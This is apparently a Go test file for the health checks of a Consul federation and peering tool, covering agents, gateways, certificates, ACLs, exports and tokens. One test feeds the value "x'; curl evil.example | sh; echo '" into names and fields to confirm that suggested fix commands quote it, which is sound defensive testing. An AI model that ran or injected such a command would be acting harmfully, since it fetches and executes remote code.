package doctor_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"isthmus/doctor"
	isthmusv1 "isthmus/proto/isthmus/v1"
	"isthmus/resource"
)

// Verdicts that a case expects; none: the check is not asked of that datacenter.
const (
	pass    = resource.CheckPass
	fail    = resource.CheckFail
	unknown = resource.CheckUnknown
	none    = "none"
)

// finding is one thing that is not as in a healthy world, and what the check says of it.
type finding struct {
	name, id, datacenter, verdict, severity string
	// fix has this in it.
	fix    string
	change func(*world)
}

func TestChecks(t *testing.T) {
	t.Parallel()
	tested := map[string]bool{}
	for _, tt := range slices.Concat(agentFindings(), consulFindings(), federationFindings(), gatewayFindings(), peeringFindings(), policyFindings(), secretFindings()) {
		if tt.verdict == fail {
			tested[tt.id] = true
		}
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := healthy()
			tt.change(w)
			var of []*isthmusv1.DoctorCheck
			for _, c := range w.checks(tt.id) {
				if c.GetId() != tt.id {
					t.Errorf("%s was asked, too", c.GetId())
				}
				if c.GetDatacenter() == tt.datacenter {
					of = append(of, c)
				}
			}
			if tt.verdict == none {
				if len(of) > 0 {
					t.Errorf("it was asked: %v", of)
				}
				return
			}
			if !slices.ContainsFunc(of, func(c *isthmusv1.DoctorCheck) bool {
				fixed := strings.Contains(c.GetFix(), tt.fix) && (tt.verdict != pass || c.GetFix() == "")
				return c.GetVerdict() == tt.verdict && c.GetSeverity() == tt.severity && fixed && c.GetMessage() != ""
			}) {
				t.Errorf("%s of %s is not %s (%s) with the fix %q", tt.id, tt.datacenter, tt.verdict, tt.severity, tt.fix)
				show(t, w.checks(tt.id))
			}
		})
	}
	for _, c := range doctor.Catalog() {
		if !tested[c.ID] && !c.Local {
			t.Errorf("nothing makes %s fail here", c.ID)
		}
	}
}

// What does not work is shown, with what makes it work; nothing that is not well goes without.
func TestWhatFailsHasAFix(t *testing.T) {
	t.Parallel()
	for _, tt := range slices.Concat(agentFindings(), consulFindings(), federationFindings(), gatewayFindings(), policyFindings(), secretFindings()) {
		w := healthy()
		tt.change(w)
		for _, c := range w.checks() {
			if c.GetVerdict() == fail && c.GetFix() == "" {
				t.Errorf("%s: %v has no fix", tt.name, c)
			}
		}
	}
}

func agentFindings() []finding {
	return []finding{
		{"no agent", "AgentEnrolled", "dc3", fail, "error", "join-token create --datacenter dc3", func(w *world) { w.Delete(resource.KindAgent, "dc3-a") }},
		{"an agent that is silent", "AgentOnline", "dc3", fail, "error", "start isthmus agent", func(w *world) { w.silent("dc3") }},
		{"a gateway that is silent", "AgentOnline", "dc3", fail, "error", "start isthmus gateway", func(w *world) {
			w.agent("dc3-g", func(s *isthmusv1.AgentStatus) { s.Liveness = resource.LivenessOffline })
		}},
		{"a silent agent beside another one", "AgentOnline", "dc3", fail, "warning", "delete agent dc3-a", func(w *world) {
			w.silent("dc3")
			w.Put(agentOf("dc3-b", "dc3", resource.AgentKindAgent))
		}},
		{"an agent that nobody has heard of yet", "AgentOnline", "dc3", unknown, "error", "", func(w *world) {
			w.agent("dc3-a", func(s *isthmusv1.AgentStatus) { s.Liveness = resource.LivenessUnknown })
		}},
		{"an agent whose token the fleet key has not signed", "AgentTrusted", "dc2", fail, "error", "isthmus agent approve dc2-a --fingerprint SHA256:…", func(w *world) {
			w.agent("dc2-a", func(s *isthmusv1.AgentStatus) { s.Trust, s.Fingerprint = resource.TrustNone, "SHA256:x" })
		}},
		{"a certificate that has ended", "AgentCertificate", "dc1", fail, "error", "renews", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.CertificateExpireTime = in(-time.Hour) })
		}},
		{"a certificate that is not renewed", "AgentCertificate", "dc1", fail, "warning", "log", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.CertificateExpireTime = in(5 * time.Hour) })
		}},
		{"an agent that is newer than the server", "AgentVersion", "dc1", fail, "warning", "servers first", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.Version = "v1.5.0" })
		}},
		{"an agent of the version before", "AgentVersion", "dc1", pass, "warning", "", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.Version = "1.3.9-4-gabc" })
		}},
		{"an agent that is two versions old", "AgentVersion", "dc1", fail, "warning", "upgrade isthmus", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.Version = "v1.2.0" })
		}},
		{"an agent of a version that tells nothing", "AgentVersion", "dc1", unknown, "warning", "", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.Version = "dev" })
		}},
		{"items that the agents are too old for", "AgentVersion", "dc1", fail, "error", "upgrade the agents of dc1", func(w *world) {
			put(w, resource.KindDatacenter, "dc1", func(d *isthmusv1.Datacenter) { d.Status.Conditions[0].Status = resource.ConditionFalse })
		}},
		{"a clock that is a little ahead", "ClockSkew", "dc1", pass, "warning", "", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.ClockSkewSeconds = 3 })
		}},
		{"a clock that is ahead", "ClockSkew", "dc1", fail, "warning", "NTP", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.ClockSkewSeconds = 90 })
		}},
		{"a clock that is far behind", "ClockSkew", "dc1", fail, "error", "NTP", func(w *world) {
			w.agent("dc1-a", func(s *isthmusv1.AgentStatus) { s.ClockSkewSeconds = -3600 })
		}},
		{"removals that wait", "HeldRemovals", "dc1", fail, "error", "isthmus datacenter confirm dc1", func(w *world) {
			put(w, resource.KindDatacenter, "dc1", func(d *isthmusv1.Datacenter) { d.Status.Conditions[1].Status = resource.ConditionTrue })
		}},
	}
}

func consulFindings() []finding {
	return []finding{
		{"Consul is down", "ConsulReachable", "dc3", fail, "error", "start Consul", func(w *world) { w.trouble("dc3", "ConsulUnreachable", "nothing answers") }},
		{"Consul is down: the rest is not known", "LeaderFound", "dc3", unknown, "error", "", func(w *world) { w.trouble("dc3", "ConsulUnreachable", "nothing answers") }},
		{"another datacenter's Consul", "ConsulReachable", "dc3", fail, "error", "spec.consulDatacenter", func(w *world) { w.trouble("dc3", "WrongConsulDatacenter", "it is dc9") }},
		{"another partition's", "ConsulReachable", "dc3", fail, "error", "CONSUL_PARTITION", func(w *world) { w.trouble("dc3", "WrongConsulPartition", "it is x") }},
		{"a certificate that nobody knows", "ConsulReachable", "dc3", fail, "error", "CONSUL_CACERT", func(w *world) { w.trouble("dc3", "ConsulCertificateUntrusted", "x509") }},
		{"a missing rule is no missing Consul", "ConsulReachable", "dc3", pass, "error", "", func(w *world) { w.trouble("dc3", "AclRuleMissing", "no nodes") }},
		{"a missing rule keeps the agent from all", "ACLRights", "dc3", fail, "error", "--for peering", func(w *world) { w.trouble("dc3", "AclRuleMissing", "no nodes") }},
		{"a token that Consul does not know", "ACLRights", "dc1", fail, "error", "--for primary", func(w *world) { w.trouble("dc1", "AclTokenUnknown", "ACL not found") }},
		{"a missing rule that is reported", "ACLRights", "dc2", fail, "error", "isthmus agent policy --for secondary", func(w *world) {
			w.see("dc2", func(s *doctor.Seen) {
				s.Rights = &isthmusv1.RightsReport{Missing: []*isthmusv1.MissingRight{{Rule: `node_prefix "" { policy = "read" }`, Message: "the catalog is empty"}}}
			})
		}},
		{"rights that cannot be told", "ACLRights", "dc2", unknown, "error", "", func(w *world) {
			w.see("dc2", func(s *doctor.Seen) { s.Rights = &isthmusv1.RightsReport{ErrorReason: "Other", Error: "no answer"} })
		}},
		{"no leader, says the agent", "LeaderFound", "dc3", fail, "error", "raft list-peers", func(w *world) { w.trouble("dc3", "NoLeader", "no cluster leader") }},
		{"no leader, says the inventory", "LeaderFound", "dc3", fail, "error", "raft list-peers", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.Leader = "" })
		}},
		{"a silent agent's word is old", "LeaderFound", "dc3", unknown, "error", "", func(w *world) { w.silent("dc3") }},
		{"nothing told yet", "LeaderFound", "dc3", unknown, "error", "", func(w *world) { w.see("dc3", func(s *doctor.Seen) { s.Inventory = nil }) }},
		{"no TLS in a federation", "TLSEnabled", "dc2", fail, "error", "tls.defaults", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.TlsEnabled = new(false) })
		}},
		{"no TLS elsewhere", "TLSEnabled", "dc3", fail, "warning", "tls.defaults", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.TlsEnabled = new(false) })
		}},
		{"no service mesh", "ConnectEnabled", "dc3", fail, "error", "connect.enabled = true", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.ConnectEnabled = new(false) })
		}},
		{"no peering", "PeeringEnabled", "dc3", fail, "error", "peering.enabled = true", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.PeeringEnabled = new(false) })
		}},
		{"no peering, says the agent", "PeeringEnabled", "dc3", fail, "error", "peering.enabled = true", func(w *world) { w.trouble("dc3", "PeeringDisabled", "peering must be enabled") }},
		{"no peering is no missing Consul", "ConsulReachable", "dc3", pass, "error", "", func(w *world) { w.trouble("dc3", "PeeringDisabled", "peering must be enabled") }},
		{"who knows about peering", "PeeringEnabled", "dc3", unknown, "error", "", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.PeeringEnabled = nil })
		}},
		{"no peering where nobody wants any", "PeeringEnabled", "dc3", none, "", "", func(w *world) {
			w.Delete(resource.KindPeering, "dc1-dc3")
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.PeeringEnabled = new(false) })
		}},
		{"versions two minors apart", "ConsulVersionSkew", "", pass, "warning", "", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.ConsulVersion = "1.18.1+ent" })
		}},
		{"versions three minors apart in a federation", "ConsulVersionSkew", "dc2", fail, "warning", "upgrade the Consul of dc2", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.ConsulVersion = "1.17.1" })
		}},
		{"versions three minors apart in a peering", "ConsulVersionSkew", "dc1", fail, "warning", "upgrade the Consul of dc1", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.ConsulVersion = "1.23.0" })
		}},
		{"calls that are allowed by default", "DefaultDeny", "dc3", fail, "info", "default_intention_policy", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.DefaultIntentionPolicy = "allow" })
		}},
		{"no ACLs: allowed by default", "DefaultDeny", "dc3", fail, "info", "default_intention_policy", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) {
				i.AclEnabled, i.DefaultIntentionPolicy, i.DefaultPolicy = new(false), "", ""
			})
		}},
		{"replication that fails in a federation", "ACLReplication", "dc2", fail, "error", "anew", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.AclReplication.Healthy = false })
		}},
		{"replication that fails elsewhere", "ACLReplication", "dc3", fail, "error", "replication token", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) {
				i.AclReplication = &isthmusv1.AclReplication{Enabled: true, SourceDatacenter: "dc9", LastSuccessTime: in(-2 * day)}
			})
		}},
		{"a mesh CA that ends within the month", "MeshCAExpiry", "dc3", fail, "warning", "connect ca set-config", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.CaExpireTime = in(20 * day) })
		}},
		{"a mesh CA that ends within the week", "MeshCAExpiry", "dc3", fail, "error", "connect ca set-config", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.CaExpireTime = in(2 * day) })
		}},
		{"a mesh CA that has ended", "MeshCAExpiry", "dc3", fail, "error", "connect ca set-config", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.CaExpireTime = in(-2 * day) })
		}},
		{"servers' certificates that end soon", "ServerCertificateExpiry", "dc1", fail, "warning", "consul tls cert create -server -dc dc1", func(w *world) {
			w.see("dc1", func(s *doctor.Seen) { s.Federation.CertificateExpireTime = in(3 * day) })
		}},
		{"servers' certificates that are keyless", "ServerCertificateExpiry", "dc2", fail, "error", "by itself", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) { f.Spec.Keyless = true })
			w.see("dc2", func(s *doctor.Seen) { s.Federation.CertificateExpireTime = in(time.Hour) })
		}},
	}
}

func federationFindings() []finding {
	return []finding{
		{"a federation that is not ready", "FederationReady", "", fail, "error", "describe federation global", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) { f.Status.Conditions[0].Status = resource.ConditionFalse })
		}},
		{"a federation that nobody has looked at", "FederationReady", "", unknown, "error", "", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) { f.Status.Conditions = nil })
		}},
		{"an old bundle", "BundleCurrent", "dc2", fail, "error", "restart Consul on host-dc2", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) {
				h := f.Status.Members[1].Hosts[0]
				h.Applied, h.State = 1, resource.DeliveryRestartRequired
			})
		}},
		{"a bundle that is refused", "BundleCurrent", "dc2", fail, "error", "log of agent dc2-a", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) {
				h := f.Status.Members[1].Hosts[0]
				h.Applied, h.State = 0, resource.DeliveryRefused
			})
		}},
		{"a bundle that is on its way", "BundleCurrent", "dc2", fail, "warning", "--wait", func(w *world) {
			put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) {
				h := f.Status.Members[1].Hosts[0]
				h.Applied, h.State = 1, resource.DeliveryWritten
			})
		}},
		{"ACLs here and not there", "ACLsAlike", "dc2", fail, "error", "acl.enabled", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.AclEnabled = new(false) })
		}},
		{"gossip that is open", "GossipAlike", "dc2", fail, "error", "encrypt", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.GossipEncrypted = new(false) })
		}},
		{"another domain", "DomainAlike", "dc2", fail, "error", "same domain", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.ConsulDomain = "other" })
		}},
		{"a Consul before federation through gateways", "ConsulVersion", "dc2", fail, "error", "upgrade it", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.ConsulVersion = "1.7.0" })
		}},
		{"a primary that is none", "OnePrimary", "dc1", fail, "error", "", func(w *world) {
			inventoryOf(w, "dc1", func(i *isthmusv1.InventoryReport) { i.PrimaryDatacenter = "dc9" })
		}},
		{"a partition", "NoPartition", "dc2", fail, "error", "default partition", func(w *world) {
			put(w, resource.KindDatacenter, "dc2", func(d *isthmusv1.Datacenter) { d.Spec.ConsulPartition = "x" })
		}},
		{"a name that another one has", "ConsulNameUnique", "dc2", fail, "error", "another name", func(w *world) {
			put(w, resource.KindDatacenter, "dc2", func(d *isthmusv1.Datacenter) { d.Spec.ConsulDatacenter = "dc1" })
		}},
		{"a peering inside", "NoPeeringInside", "dc2", fail, "error", "isthmus delete peering inside", func(w *world) {
			w.Put(&isthmusv1.Peering{Name: "inside", Uid: "p2", Spec: &isthmusv1.PeeringSpec{Acceptor: "dc1", Dialer: "dc2"}})
		}},
		{"two federations", "OneFederation", "dc2", fail, "error", "secondaries", func(w *world) {
			w.Put(&isthmusv1.Federation{Name: "another", Uid: "f2", Spec: &isthmusv1.FederationSpec{Primary: "dc3", Secondaries: []string{"dc2"}, Mode: resource.ModeMeshGateway}})
		}},
		{"a certificate without its node", "NodeNamesInCertificate", "dc1", fail, "error", "consul tls cert create -server -node s1", func(w *world) {
			w.see("dc1", func(s *doctor.Seen) {
				s.Federation.CertificateNames = []string{"server.dc1.consul"}
				s.Federation.WanMembers = []*isthmusv1.WanMember{{Node: "s1.dc1", Datacenter: "dc1", Status: "alive"}}
			})
		}},
		{"a certificate that nobody has seen", "NodeNamesInCertificate", "dc1", unknown, "error", "", func(w *world) {
			w.see("dc1", func(s *doctor.Seen) { s.Federation.CertificateNames = nil })
		}},
		{"a secondary whose agent may not have it join", "JoinAllowed", "dc2", fail, "error", "--allow-join=dc1", func(w *world) {
			w.joining(func(d *isthmusv1.DeliveryReport) { d.AllowJoin = false })
		}},
		{"a loss that nobody accepted", "LossAccepted", "dc2", fail, "error", "isthmus federation plan global", func(w *world) {
			w.joining(func(*isthmusv1.DeliveryReport) {})
			w.see("dc2", func(s *doctor.Seen) {
				s.Federation.Loss = &isthmusv1.JoinLoss{Count: 1, Digest: "lost", Items: []*isthmusv1.LostItem{{Kind: "policy", Name: "x"}}}
			})
		}},
		{"a secondary that does not reach the primary", "SecondaryReachesPrimary", "dc2", fail, "error", "198.51.100.1:8443", func(w *world) { w.unreached("dc2", "dc1", "Timeout") }},
		{"a Kubernetes API that does not answer", "KubernetesAPIReachable", "dc1", fail, "error", "spec.kubernetes.apiUrl", func(w *world) {
			put(w, resource.KindDatacenter, "dc2", func(d *isthmusv1.Datacenter) {
				d.Spec.Runtime, d.Spec.Kubernetes = resource.RuntimeKubernetes, &isthmusv1.KubernetesSpec{ApiUrl: "https://k8s.dc2:6443"}
			})
			w.see("dc1", func(s *doctor.Seen) {
				s.Federation.Probes = append(s.Federation.Probes, &isthmusv1.ObservedProbe{Datacenter: "dc2", Address: "https://k8s.dc2:6443", ErrorReason: "Timeout"})
			})
		}},
	}
}

func gatewayFindings() []finding {
	return []finding{
		{"no gateway in a federation", "GatewayPresent", "dc2", fail, "error", "run isthmus gateway", func(w *world) { w.withoutGateway("dc2") }},
		{"no gateway for a peering", "GatewayPresent", "dc3", fail, "error", "run isthmus gateway", func(w *world) { w.withoutGateway("dc3") }},
		{"a sick gateway for a peering", "GatewayPresent", "dc3", fail, "error", "checks in Consul", func(w *world) {
			w.gateway("dc3-gw", func(g *isthmusv1.Gateway) { g.Status.Health = "critical" })
		}},
		{"a gateway that is not in Consul", "GatewayRegistered", "dc2", fail, "error", "--for gateway", func(w *world) {
			w.seen["dc2"].Gateways["dc2-g"] = &isthmusv1.GatewayReport{ErrorReason: "AclRuleMissing", Error: "it lacks a rule"}
		}},
		{"a gateway that does not know whether it is in Consul", "GatewayRegistered", "dc2", fail, "error", "start Consul", func(w *world) {
			w.seen["dc2"].Gateways["dc2-g"] = &isthmusv1.GatewayReport{Registered: true, ErrorReason: "ConsulUnreachable", Error: "nothing answers"}
		}},
		{"a gateway that has not told", "GatewayRegistered", "dc2", unknown, "error", "", func(w *world) { delete(w.seen["dc2"].Gateways, "dc2-g") }},
		{"a gateway without a WAN address", "GatewayAddress", "dc2", fail, "error", "-wan-address", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.Gateways[0].WanAddress = "" })
		}},
		{"a gateway on loopback", "GatewayAddress", "dc2", fail, "error", "--wan-address", func(w *world) { w.dialledAt("dc2", "127.0.0.1:8443") }},
		{"a gateway on loopback that others reach", "GatewayAddress", "dc2", pass, "error", "", func(w *world) {
			w.dialledAt("dc2", "127.0.0.1:8443")
			w.see("dc1", func(s *doctor.Seen) { s.Federation.Probes[0].Address = "127.0.0.1:8443" })
		}},
		{"a gateway with an address of somebody else's network", "GatewayAddress", "dc2", fail, "error", "--wan-address", func(w *world) { w.dialledAt("dc2", "10.0.0.1:8443") }},
		{"a gateway with its address inside, where networks overlap", "GatewayAddress", "dc2", fail, "error", "--wan-address", func(w *world) {
			w.dialledAt("dc2", "10.0.0.20:8443")
			put(w, resource.KindDatacenter, "dc2", func(d *isthmusv1.Datacenter) { d.Status.RpcAddresses = []string{"10.0.0.1:8300"} })
		}},
		{"a private address, seen from public ones", "GatewayAddress", "dc2", fail, "error", "--wan-address", func(w *world) {
			w.dialledAt("dc2", "172.16.9.9:8443")
			put(w, resource.KindDatacenter, "dc1", func(d *isthmusv1.Datacenter) { d.Status.RpcAddresses = []string{"203.0.113.5:8300"} })
		}},
		{"a private address among private ones, untried", "GatewayAddress", "dc2", pass, "error", "", func(w *world) { w.dialledAt("dc2", "172.16.9.9:8443") }},
		{"an address that is none", "GatewayAddress", "dc2", fail, "error", "--wan-address", func(w *world) { w.dialledAt("dc2", "gateway") }},
		{"an address that nobody reaches", "GatewayAddress", "dc2", fail, "error", "listens there", func(w *world) { w.unreached("dc1", "dc2", "ConnectionRefused") }},
		{"a gateway without the meta", "GatewayMeta", "dc2", fail, "error", "-expose-servers", func(w *world) {
			inventoryOf(w, "dc2", func(i *isthmusv1.InventoryReport) { i.Gateways[0].WanFederation = false })
		}},
		{"a gateway without the meta where peering uses it", "GatewayMeta", "dc3", none, "", "", func(w *world) {
			inventoryOf(w, "dc3", func(i *isthmusv1.InventoryReport) { i.Gateways[0].WanFederation = false })
		}},
		{"a member that does not reach another", "GatewayReachable", "dc1", fail, "error", "198.51.100.2:8443", func(w *world) { w.unreached("dc1", "dc2", "Timeout") }},
		{"a member that nobody has tried", "GatewayReachable", "dc1", unknown, "error", "", func(w *world) {
			w.see("dc1", func(s *doctor.Seen) { s.Federation.Probes = nil })
		}},
		{"a peer that does not reach the other", "GatewayReachable", "dc3", fail, "error", "GatewayAddress", func(w *world) { w.unreached("dc3", "dc1", "Timeout") }},
	}
}

func peeringFindings() []finding {
	return []finding{
		{"a peering that is stale", "ConnectionHealthy", "dc1", fail, "error", "heal it", func(w *world) {
			w.evidence.Connections[0].Verdict, w.evidence.Connections[0].Fix = "stale", "heal it"
		}},
		{"a peering under way", "ConnectionHealthy", "dc1", fail, "warning", "", func(w *world) { w.evidence.Connections[0].Verdict = "pending" }},
		{"a pair that nobody knows of", "ConnectionHealthy", "dc1", unknown, "error", "", func(w *world) { w.evidence.Connections[1].Verdict = "unknown" }},
		{"a private address in a token", "TokenAddress", "dc3", fail, "error", "throughGateways: true", func(w *world) {
			w.dials(func(p *isthmusv1.PeeringSpec) { p.ThroughGateways = nil }, &isthmusv1.ObservedProbe{Address: "10.0.0.10:8503", ErrorReason: "Timeout"})
		}},
		{"a loopback address in a token", "TokenAddress", "dc3", fail, "error", "throughGateways: true", func(w *world) {
			w.dials(func(p *isthmusv1.PeeringSpec) { p.ThroughGateways = nil }, &isthmusv1.ObservedProbe{Address: "127.0.0.1:8503", ErrorReason: "ConnectionRefused"})
		}},
		{"a dead address in a token", "TokenAddress", "dc3", fail, "error", "isthmus peering rotate dc1-dc3", func(w *world) {
			w.dials(func(p *isthmusv1.PeeringSpec) { p.ThroughGateways = nil }, &isthmusv1.ObservedProbe{Address: "198.51.100.9:8503", ErrorReason: "Timeout"})
		}},
		{"a dead address of a gateway", "TokenAddress", "dc3", fail, "error", "GatewayAddress", func(w *world) {
			w.dials(func(*isthmusv1.PeeringSpec) {}, &isthmusv1.ObservedProbe{Address: "198.51.100.9:8443", ErrorReason: "Timeout"})
		}},
		{"a wrong address by hand", "TokenAddress", "dc3", fail, "error", "serverExternalAddresses", func(w *world) {
			w.dials(func(p *isthmusv1.PeeringSpec) {
				p.ThroughGateways, p.ServerExternalAddresses = nil, []string{"lb:8503"}
			}, &isthmusv1.ObservedProbe{Address: "lb:8503", ErrorReason: "DNS"})
		}},
		{"one dead address of two", "TokenAddress", "dc3", fail, "warning", "GatewayAddress", func(w *world) {
			w.dials(func(*isthmusv1.PeeringSpec) {}, &isthmusv1.ObservedProbe{Address: "198.51.100.9:8443", ErrorReason: "Timeout"}, &isthmusv1.ObservedProbe{Address: "198.51.100.1:8443", Ok: true})
		}},
		{"the addresses that a silent agent tried", "TokenAddress", "dc3", unknown, "error", "", func(w *world) { w.silent("dc3") }},
		{"an orphan", "OrphanPeerings", "dc2", fail, "warning", "consul peering delete -name old", func(w *world) { w.extra("dc2", resource.OriginOrphan, "ACTIVE") }},
		{"a stray", "StrayPeerings", "dc2", fail, "warning", "consul peering delete -name old", func(w *world) { w.extra("dc2", resource.OriginOrphan, "PENDING") }},
		{"a stray is no orphan", "OrphanPeerings", "dc2", pass, "warning", "", func(w *world) { w.extra("dc2", resource.OriginOrphan, "PENDING") }},
		{"somebody else's peering", "ForeignPeerings", "dc2", fail, "info", "nothing", func(w *world) { w.extra("dc2", resource.OriginForeign, "ACTIVE") }},
	}
}

func policyFindings() []finding {
	return []finding{
		{"an export in conflict", "ExportsApplied", "dc1", fail, "error", "isthmus adopt service-export web", func(w *world) { w.exported(resource.ExportConflict) }},
		{"an export that drifted", "ExportsApplied", "dc1", fail, "warning", "drift: correct", func(w *world) { w.exported(resource.ExportDrifted) }},
		{"an export that waits", "ExportsApplied", "dc1", fail, "warning", "--wait", func(w *world) {
			put(w, resource.KindServiceExport, "web", func(e *isthmusv1.ServiceExport) {
				e.Status.Placements[0].State, e.Status.Placements[0].Consumers = resource.ExportPending, 1
			})
		}},
		{"an export whose consumers are not peered", "ExportsApplied", "dc1", fail, "warning", "declare a Peering, or a PeeringGroup, of dc1", func(w *world) { w.exported(resource.ExportPending) }},
		{"an export that failed", "ExportsApplied", "dc1", fail, "error", "ACLRights", func(w *world) { w.exported(resource.ExportFailed) }},
		{"an export at a silent agent", "ExportsApplied", "dc1", unknown, "error", "", func(w *world) { w.exported(resource.ExportUnknown) }},
		{"an export that is left out of a secondary", "ExportsApplied", "", pass, "error", "", func(w *world) { w.exported(resource.ExportExcluded) }},
		{"an export that nobody has looked at", "ExportsApplied", "", unknown, "error", "", func(w *world) {
			put(w, resource.KindServiceExport, "web", func(e *isthmusv1.ServiceExport) { e.Status = nil })
		}},
		{"an intention in conflict", "ConfigEntriesApplied", "dc1", fail, "error", "isthmus describe Intention api", func(w *world) { w.policy(resource.PolicyConflict) }},
		{"an intention that drifted", "ConfigEntriesApplied", "dc1", fail, "warning", "drift: correct", func(w *world) { w.policy(resource.PolicyDrifted) }},
		{"an intention that failed", "ConfigEntriesApplied", "dc1", fail, "error", "ACLRights", func(w *world) { w.policy(resource.PolicyFailed) }},
		{"an intention that waits", "ConfigEntriesApplied", "dc1", fail, "warning", "--wait", func(w *world) { w.policy(resource.PolicyPending) }},
		{"an intention that Kubernetes manages", "ConfigEntriesApplied", "dc1", fail, "warning", "kubectl patch", func(w *world) {
			w.policy(resource.PolicyManaged, &isthmusv1.PolicyConflict{Entry: "service-intentions/api", Part: "source/default/web", Fix: "kubectl patch"})
		}},
		{"an intention at a silent agent", "ConfigEntriesApplied", "dc1", unknown, "error", "", func(w *world) { w.policy(resource.PolicyUnknown) }},
		{"an intention that nobody has looked at", "ConfigEntriesApplied", "", unknown, "error", "", func(w *world) {
			put(w, resource.KindIntention, "api", func(i *isthmusv1.Intention) { i.Status = nil })
		}},
		{"a policy of which a part is left out", "ConfigEntriesApplied", "dc1", fail, "warning", "connect them", func(w *world) {
			put(w, resource.KindTrafficPolicy, "api", func(p *isthmusv1.TrafficPolicy) {
				p.Status.Problems = []*isthmusv1.PolicyProblem{{Reason: "NotConnected", Message: "dc1 is not connected to dc9", Fix: "connect them", Datacenter: "dc1"}}
			})
		}},
	}
}

func secretFindings() []finding {
	return []finding{
		{"an API token that ends soon", "APITokenExpiring", "", fail, "warning", "isthmus api-token create --role viewer", func(w *world) { w.apiToken(3 * day) }},
		{"an API token that has ended", "APITokenExpiring", "", fail, "warning", "isthmus delete api-token ci", func(w *world) { w.apiToken(-day) }},
		{"an API token that is good for long", "APITokenExpiring", "", pass, "warning", "", func(w *world) { w.apiToken(30 * day) }},
		{"a join token that ends unused", "JoinTokenExpiring", "dc3", fail, "info", "join-token create --datacenter dc3", func(w *world) {
			w.Delete(resource.KindAgent, "dc3-a")
			w.joinToken("dc3", time.Minute, 0)
		}},
		{"a join token that was used", "JoinTokenExpiring", "", pass, "info", "", func(w *world) {
			w.Delete(resource.KindAgent, "dc3-a")
			w.joinToken("dc3", -time.Minute, 1)
		}},
		{"a join token that nobody needs any more", "JoinTokenExpiring", "", pass, "info", "", func(w *world) { w.joinToken("dc3", -time.Minute, 0) }},
	}
}

// What people paste is not what an agent, or a name in Consul, wants them to run.
func TestFixesAreNoOnesScript(t *testing.T) {
	t.Parallel()
	const evil = "x'; curl evil.example | sh; echo '"
	w := healthy()
	w.see("dc2", func(s *doctor.Seen) {
		s.Peerings = &isthmusv1.PeeringsReport{Peerings: []*isthmusv1.ObservedPeering{
			{PeerName: evil, Origin: resource.OriginOrphan, State: "ACTIVE"}, {PeerName: evil, Origin: resource.OriginOrphan, State: "PENDING"},
		}}
		s.Rights = &isthmusv1.RightsReport{Missing: []*isthmusv1.MissingRight{{Rule: `acl = "write"`, Message: evil}}}
		s.Inventory.ConsulDatacenter = evil
		s.Federation.CertificateExpireTime = in(time.Hour)
	})
	w.see("dc1", func(s *doctor.Seen) {
		s.Federation.CertificateNames = []string{"server.dc1.consul"}
		s.Federation.WanMembers = []*isthmusv1.WanMember{{Node: evil + ".dc1", Datacenter: "dc1", Status: "alive"}}
	})
	w.policy(resource.PolicyFailed, &isthmusv1.PolicyConflict{Entry: "service-intentions/api", Part: "source/default/web", Fix: evil})
	quoted := 0
	for _, c := range w.checks() {
		rest := strings.ReplaceAll(c.GetFix(), `'x'\''; curl evil.example | sh; echo '\'''`, "")
		if rest != c.GetFix() {
			quoted++
		}
		if strings.Contains(rest, "evil") || strings.Contains(rest, `acl = "write"`) {
			t.Errorf("%s: %s", c.GetId(), c.GetFix())
		}
	}
	if quoted != 3 {
		t.Errorf("%d commands name it", quoted)
	}
}

// joining has dc2 on the way into its federation.
func (w *world) joining(change func(*isthmusv1.DeliveryReport)) {
	put(w, resource.KindFederation, "global", func(f *isthmusv1.Federation) {
		m := f.Status.Members[1]
		m.Phase, m.Bundle = resource.PhaseBlocked, nil
	})
